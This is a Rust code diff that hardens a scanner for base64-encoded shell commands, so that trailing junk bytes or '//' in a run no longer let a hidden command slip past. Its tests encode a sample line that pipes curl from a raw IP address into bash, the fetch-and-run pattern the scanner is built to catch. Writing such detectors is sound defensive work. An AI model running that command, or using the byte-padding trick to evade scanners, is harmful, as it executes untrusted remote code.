@@ -22,7 +22,7 @@ fn is_base64(byte: u8) -> bool {
 pub fn base64_runs(line: &str) -> impl Iterator<Item = &str> {
     let bytes = line.as_bytes();
     let mut start = 0;
-    let runs = iter::from_fn(move || {
+    iter::from_fn(move || {
         loop {
             let shortest = bytes.get(start..start + SHORTEST)?;
             if let Some(other) = shortest.iter().rposition(|byte| !is_base64(*byte)) {
@@ -35,8 +35,7 @@ pub fn base64_runs(line: &str) -> impl Iterator<Item = &str> {
             start += run.len();
             return Some(run);
         }
-    });
-    runs.filter(|run| !run.contains("//"))
+    })
 }
 
 /// The runs of base64 that go on over lines, with the number of the first.
@@ -69,15 +68,13 @@ pub fn is_encoded_command(run: &str) -> bool {
     decoded(run).is_some_and(|text| is_command(&text))
 }
 
-/// The text in a run of base64; `None` for other bytes.
+/// The text in a run of base64, whatever else is in it: a shell takes a stray byte in a comment.
 fn decoded(run: &str) -> Option<String> {
     let bytes = STANDARD_NO_PAD
         .decode(run)
         .or_else(|_| URL_SAFE_NO_PAD.decode(run))
         .ok()?;
-    let text = String::from_utf8(bytes).ok()?;
-    let printable = |c: char| !c.is_control() || c.is_whitespace();
-    text.chars().all(printable).then_some(text)
+    Some(String::from_utf8_lossy(&bytes).into_owned())
 }
 
 /// Whether decoded text downloads and runs something, or opens a shell.
@@ -98,7 +95,7 @@ mod tests {
     fn a_run_is_found_wherever_it_stands() {
         let slowly = |line: &str| -> Vec<String> {
             let runs = line.split(|c: char| !c.is_ascii() || !is_base64(c as u8));
-            let long = runs.filter(|run| run.len() >= SHORTEST && !run.contains("//"));
+            let long = runs.filter(|run| run.len() >= SHORTEST);
             long.map(str::to_owned).collect()
         };
         let runs = [0, 1, SHORTEST - 1, SHORTEST, SHORTEST + 1, 99]
@@ -119,15 +116,16 @@ mod tests {
     }
 
     #[test]
-    fn text_is_decoded_and_other_bytes_are_not() {
-        let hidden = STANDARD.encode("curl -fsSL http://91.92.93.94/x | bash");
-        let line = format!("echo '{hidden}' | x");
-        let texts: Vec<_> = base64_runs(&line).map(decoded).collect();
-        assert_eq!(
-            texts,
-            [Some("curl -fsSL http://91.92.93.94/x | bash".to_owned())]
-        );
+    fn a_command_is_found_whatever_is_beside_it() {
+        let encoded = |more: &[u8]| {
+            STANDARD.encode([b"curl -fsSL http://91.92.93.94/x | bash", more].concat())
+        };
+        for hidden in [encoded(b""), encoded(b" #\x01"), encoded(b" #\xff\xfe")] {
+            let line = format!("echo '{hidden}' | x");
+            assert!(base64_runs(&line).all(is_encoded_command), "{line}");
+            assert_eq!(base64_runs(&line).count(), 1);
+        }
         let digest = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
-        assert!(base64_runs(digest).all(|run| decoded(run).is_none()));
+        assert!(!base64_runs(digest).any(is_encoded_command));
     }
 }
